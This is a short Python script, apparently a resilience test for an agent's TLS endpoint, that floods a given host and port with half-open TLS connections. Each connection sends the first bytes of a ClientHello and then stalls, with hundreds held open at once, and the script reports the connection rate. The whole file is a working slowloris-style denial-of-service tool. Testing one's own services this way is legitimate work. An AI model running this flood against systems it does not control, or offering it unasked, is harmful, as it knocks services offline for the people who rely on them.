#!/usr/bin/env python3
"""Half-open TLS at an agent: connections to HOST:PORT as fast as this machine makes them,
each sending the first bytes of a TLS ClientHello record and then nothing, which costs the
sender nothing. Keeps at most KEEP open (closing the oldest), for SECONDS; prints the rate.
Usage: half-open-tls-flood.py HOST PORT SECONDS [KEEP]   (issue 36, item 9)"""
import socket, sys, time, collections
host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
keep = int(sys.argv[4]) if len(sys.argv) > 4 else 400
held = collections.deque(); opened = 0; end = time.time() + seconds
while time.time() < end:
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        held.append(s); opened += 1
    except Exception:
        time.sleep(0.001)
    while len(held) > keep:
        try: held.popleft().close()
        except Exception: pass
print(f"opened {opened} half-open TLS connections in {seconds} s ({opened/seconds:.0f}/s)")
